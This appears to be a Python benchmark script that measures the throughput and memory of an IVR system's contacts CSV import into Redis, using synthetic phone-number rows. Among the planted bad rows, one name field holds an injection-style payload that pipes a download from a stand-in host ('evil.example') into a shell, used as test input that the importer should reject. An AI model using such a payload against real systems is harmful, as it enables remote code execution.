"""Contacts CSV import: throughput and memory, 1,000,000 rows vs 100,000.

Generates a CSV (in a temp dir, or ``--workdir``) of valid numbers across four countries (US in
national and international format, GB, IR, CN; names in English, Persian and Chinese), with ~1 % bad
rows (an invalid number, a ``${...}`` name, an unknown language, an embedded newline), ~1 % repeats
of an earlier number and ~0.1 % numbers on the do-not-call list. It starts a private redis-server on a
free port (no persistence) and imports the file with ``ivr.campaigns.contacts.import_csv``, each import
in a fresh Python process so that its peak RSS (``getrusage(RUSAGE_SELF).ru_maxrss``) is its own. A
second, smaller import (``--compare-rows``, default 100,000 or a tenth of ``--rows``) gives the memory
comparison: a peak-RSS ratio near 1 means memory is bounded by the batch, not by the file.

Per run it prints rows/s, the report counts (checked against what the generator planted), the worker's
peak RSS and its RSS before the import (modules loaded), the longest event-loop stall seen by a 10 ms
ticker during the import (the controller keeps serving calls while an import runs), Redis memory per
stored contact and the mean time of one batch's Lua call (Redis serves nobody else meanwhile). Rows per
CPU-second are printed too: on a busy machine wall-clock rows/s understate. ``--rows 2000`` is the
smoke-test size (tests/integration/test_contacts_import.py); the test suite never runs the 1M size.

    .venv/bin/python benchmarks/contacts_import.py                # 1,000,000 rows (about a minute or two)
    .venv/bin/python benchmarks/contacts_import.py --rows 20000 --json
"""

from __future__ import annotations

import argparse
import asyncio
import csv
import json
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

PREFIX = "bench"
US_AREAS = ("212", "415", "617", "312")
NAMES = {"US": ("Customer {i}", "en"), "GB": ("Passenger {i}", "en"), "IR": ("مسافر {i}", "fa"),
         "CN": ("乘客{i}", "zh")}


def _number(i: int) -> tuple[str, str]:
    """A distinct valid number for row i, and its country."""
    country, k = ("US", "GB", "IR", "CN")[i % 4], i // 4
    if country == "US":
        area, rest = US_AREAS[k % 4], k // 4
        exch, line = 201 + rest // 10000, rest % 10000
        return (f"({area}) {exch}-{line:04d}" if k % 2 else f"+1 {area} {exch} {line:04d}"), country
    if country == "GB":
        return f"+44 20 7{k:07d}", country
    if country == "IR":
        return f"+98 912 {k:07d}", country
    return f"+86 138 {k:08d}", country


def generate(path: Path, rows: int) -> dict[str, Any]:
    """Write the CSV; returns what was planted (bad rows, repeats, do-not-call numbers)."""
    planted: dict[str, Any] = {"bad": 0, "repeats": 0, "dnc_numbers": []}
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["phone", "name", "lang", "timezone", "booking"])
        for i in range(rows):
            number, country = _number(i)
            name, lang = NAMES[country]
            row = [number, name.format(i=i), lang, "Europe/London" if i % 10 == 0 and country == "GB" else "",
                   str(100000 + i)]
            if i % 100 == 13:
                planted["bad"] += 1
                kind = (i // 100) % 4
                if kind == 0:
                    row[0] = "12345"
                elif kind == 1:
                    row[1] = "${EXEC(System(curl evil.example|sh))}"
                elif kind == 2:
                    row[2] = "xx"
                else:
                    row[1] = "Two\nlines"
            elif i % 100 == 57 and i >= 40:
                planted["repeats"] += 1
                row[0] = _number(i - 40)[0]
            elif i % 1000 == 3:
                planted["dnc_numbers"].append(number)
            w.writerow(row)
    return planted


def start_redis(workdir: Path) -> tuple[subprocess.Popen[bytes], int]:
    from ivr.devtools.stack import start_scratch_redis
    return start_scratch_redis(workdir)


# ------------------------------------------------------------------ worker (one import, own process)
def _cpu() -> float:
    ru = resource.getrusage(resource.RUSAGE_SELF)
    return ru.ru_utime + ru.ru_stime


def _rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024   # Linux: KiB


async def _worker(csv_path: str, port: int, cid: str, batch: int, show_progress: bool) -> dict[str, Any]:
    import phonenumbers
    import redis.asyncio as aioredis

    from ivr.campaigns import contacts, contacts_parse
    contacts_parse.validate_row({"number": "+12125550123"}, 1)    # load the metadata before the baseline
    phonenumbers.parse("+442079460958")
    baseline = _rss_mb()
    stall = 0.0

    async def ticker() -> None:
        nonlocal stall
        while True:
            t = time.perf_counter()
            await asyncio.sleep(0.01)
            stall = max(stall, time.perf_counter() - t - 0.01)

    r = aioredis.Redis(port=port, decode_responses=True)
    tick = asyncio.create_task(ticker())
    size = os.path.getsize(csv_path)
    t0, cpu0 = time.perf_counter(), _cpu()
    report = await contacts.import_csv(r, PREFIX, cid, csv_path, default_region="US", batch=batch,
                                       progress=contacts.progress_bar(size) if show_progress else None)
    seconds, cpu = time.perf_counter() - t0, _cpu() - cpu0
    tick.cancel()
    await r.aclose()
    return {"rows": report.rows, "imported": report.imported, "merged": report.merged, "dnc": report.dnc,
            "rejected": report.rejected, "seconds": round(seconds, 2), "rows_per_s": round(report.rows / seconds),
            "cpu_s": round(cpu, 2), "rows_per_cpu_s": round(report.rows / max(cpu, 1e-6)),
            "peak_rss_mb": round(_rss_mb(), 1), "baseline_rss_mb": round(baseline, 1),
            "max_loop_stall_ms": round(stall * 1000, 1), "file_mb": round(size / 2**20, 1),
            "first_errors": report.errors[:3]}


def run_one(csv_path: Path, port: int, cid: str, batch: int, planted: dict[str, Any]) -> dict[str, Any]:
    import redis
    client = redis.Redis(port=port, decode_responses=True)
    client.flushall()
    if planted["dnc_numbers"]:   # normalised as the import normalises
        import phonenumbers
        client.sadd(f"{PREFIX}:dnc", *(phonenumbers.format_number(phonenumbers.parse(n, "US"),
                                                                  phonenumbers.PhoneNumberFormat.E164)
                                       for n in planted["dnc_numbers"]))
    client.config_resetstat()
    base_mem = int(client.info("memory")["used_memory"])
    cmd = [sys.executable, os.path.abspath(__file__), "--worker", str(csv_path), "--port", str(port), "--cid", cid,
           "--batch", str(batch)] + (["--progress"] if sys.stderr.isatty() else [])
    proc = subprocess.run(cmd, stdout=subprocess.PIPE, text=True, cwd=Path(__file__).resolve().parent.parent)
    if proc.returncode != 0:
        raise RuntimeError(f"import worker failed (exit {proc.returncode})")
    result = json.loads(proc.stdout)
    stored = int(client.get(f"{PREFIX}:campaign:{cid}:seq") or 0)
    used = int(client.info("memory")["used_memory"]) - base_mem
    lua = client.info("commandstats").get("cmdstat_evalsha", {})
    client.close()
    result.update(redis_mb=round(used / 2**20, 1), redis_bytes_per_contact=round(used / max(stored, 1)),
                  redis_ms_per_batch=round(float(lua.get("usec_per_call", 0)) / 1000, 2),
                  expected={"rejected": planted["bad"], "merged": planted["repeats"],
                            "dnc": len(planted["dnc_numbers"])})
    result["consistent"] = (result["rejected"], result["merged"], result["dnc"]) == (
        planted["bad"], planted["repeats"], len(planted["dnc_numbers"]))
    return result


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--rows", type=int, default=1_000_000)
    ap.add_argument("--compare-rows", type=int, default=None, help="the smaller import (default 100000 or rows/10)")
    ap.add_argument("--batch", type=int, default=1000)
    ap.add_argument("--json", action="store_true", help="print the results as JSON")
    ap.add_argument("--workdir", help="where to write the CSVs (default: a temp dir, removed afterwards)")
    ap.add_argument("--worker", help=argparse.SUPPRESS)
    ap.add_argument("--port", type=int, help=argparse.SUPPRESS)
    ap.add_argument("--cid", default="bench", help=argparse.SUPPRESS)
    ap.add_argument("--progress", action="store_true", help=argparse.SUPPRESS)
    args = ap.parse_args(argv)
    if args.worker:
        print(json.dumps(asyncio.run(_worker(args.worker, args.port, args.cid, args.batch, args.progress))))
        return 0
    if shutil.which("redis-server") is None:
        print("contacts_import: redis-server is not installed", file=sys.stderr)
        return 2
    compare = args.compare_rows or min(100_000, max(args.rows // 10, 100))
    tmp = None if args.workdir else tempfile.TemporaryDirectory(prefix="contacts-bench-")
    workdir = Path(args.workdir or tmp.name)  # type: ignore[union-attr]
    workdir.mkdir(parents=True, exist_ok=True)
    proc, port = start_redis(workdir)
    try:
        runs = []
        for rows in (args.rows, compare):
            path = workdir / f"contacts-{rows}.csv"
            t = time.perf_counter()
            planted = generate(path, rows)
            if not args.json:
                print(f"generated {rows:,} rows ({path.stat().st_size / 2**20:.1f} MiB) in "
                      f"{time.perf_counter() - t:.1f} s", file=sys.stderr)
            runs.append(run_one(path, port, f"bench-{rows}", args.batch, planted))
            path.unlink()
    finally:
        proc.terminate()
        proc.wait(timeout=10)
        if tmp is not None:
            tmp.cleanup()
    big, small = runs
    ratio = round(big["peak_rss_mb"] / small["peak_rss_mb"], 3)
    ok = all(r["consistent"] for r in runs)
    if args.json:
        print(json.dumps({"runs": runs, "rss_ratio": ratio, "batch": args.batch, "consistent": ok}))
        return 0 if ok else 1
    print(f"{'rows':>10} {'imported':>9} {'merged':>7} {'dnc':>5} {'rejected':>8} {'seconds':>8} {'rows/s':>8} "
          f"{'rows/cpu-s':>10} {'peak RSS':>9} {'(before)':>9} {'loop stall':>10} {'redis/contact':>13} "
          f"{'lua/batch':>9}")
    for r in runs:
        print(f"{r['rows']:>10,} {r['imported']:>9,} {r['merged']:>7,} {r['dnc']:>5,} {r['rejected']:>8,} "
              f"{r['seconds']:>8.1f} {r['rows_per_s']:>8,} {r['rows_per_cpu_s']:>10,} {r['peak_rss_mb']:>7.1f}MB "
              f"{r['baseline_rss_mb']:>7.1f}MB {r['max_loop_stall_ms']:>8.1f}ms {r['redis_bytes_per_contact']:>11,} B "
              f"{r['redis_ms_per_batch']:>7.2f}ms" + ("" if r["consistent"] else f"  MISMATCH: expected {r['expected']}"))
    print(f"peak RSS {big['rows']:,} rows / {small['rows']:,} rows: {ratio} (~1 = memory bounded by the batch, "
          f"not the file; above the pre-import baseline: +{big['peak_rss_mb'] - big['baseline_rss_mb']:.1f} MB vs "
          f"+{small['peak_rss_mb'] - small['baseline_rss_mb']:.1f} MB)")
    return 0 if ok else 1

if __name__ == "__main__":
    sys.exit(main())
